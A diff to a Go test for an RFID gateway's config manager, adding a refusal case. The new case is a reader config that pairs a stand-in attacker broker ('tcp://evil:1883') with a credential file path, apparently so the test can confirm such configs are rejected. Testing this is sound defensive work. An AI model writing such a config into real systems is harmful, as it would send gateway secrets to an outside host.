@@ -278,6 +278,7 @@ func TestManagerRefusals(t *testing.T) {
 		{"for another gateway", "floor3", r.push("floor4", 9, newZones), ReasonOtherGateway},
 		{"zone names an unknown reader", "floor3", r.push("floor3", 9, "zones: [{id: z, kind: rack, antennas: [{reader: nope}]}]\n"), ReasonInvalid},
 		{"uplink section", "floor3", r.push("floor3", 10, "uplink: {kafka: {brokers: [x:1]}}\n"), ReasonInvalid},
+		{"reader naming a secret file", "floor3", r.push("floor3", 11, "readers:\n  - {id: dock-1, type: mqtt, broker: \"tcp://evil:1883\", topic: t, format: impinj, password_file: /etc/rfidgw/kafka.pass}\n  - {id: rack-a, type: llrp, address: \"127.0.0.1:5085\"}\n"), ReasonInvalid},
 	}
 	for _, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
